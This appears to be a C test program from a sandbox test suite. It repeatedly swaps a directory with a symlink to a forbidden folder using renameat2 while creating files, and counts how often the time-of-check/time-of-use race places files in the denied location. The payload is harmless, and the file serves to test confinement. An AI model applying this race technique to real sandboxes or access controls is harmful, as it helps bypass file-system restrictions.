// SPDX-License-Identifier: Apache-2.0
// A task with a filter of its own makes files below a folder that is swapped for a link. A child
// does it, for it may be killed for what it has done; what counts is what is there.
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>

// filtered gives the task a harmless filter of its own, as many programs have.
static void filtered(void)
{
	struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog program = {1, code};
	must(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), "no new privs");
	must(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program), "seccomp");
}

static void *swapper(void *arg)
{
	for (;;)
		renameat2(AT_FDCWD, "at", AT_FDCWD, "lnk", RENAME_EXCHANGE);
	return arg;
}

int main(void)
{
	must(mkdir("at", 0755), "mkdir");
	must(symlink("denied", "lnk"), "symlink");
	filtered();
	for (int i = 0; race_more(); i++) {
		pid_t pid = fork();
		char name[32], denied[32];
		snprintf(name, sizeof name, "at/n%d", i);
		snprintf(denied, sizeof denied, "denied/n%d", i);
		if (!pid) {
			start(swapper, NULL);
			for (int j = 0; j < 100; j++) {
				int fd = open(name, O_WRONLY | O_CREAT, 0600);
				close(fd);
				if (fd >= 0)
					unlink(name);
				if (!access(denied, F_OK))
					_exit(0);
			}
			_exit(0);
		}
		waitpid(pid, NULL, 0);
		race_won(access(denied, F_OK) == 0);
		unlink(denied);
		race_tries += 99;
	}
	race_end();
}
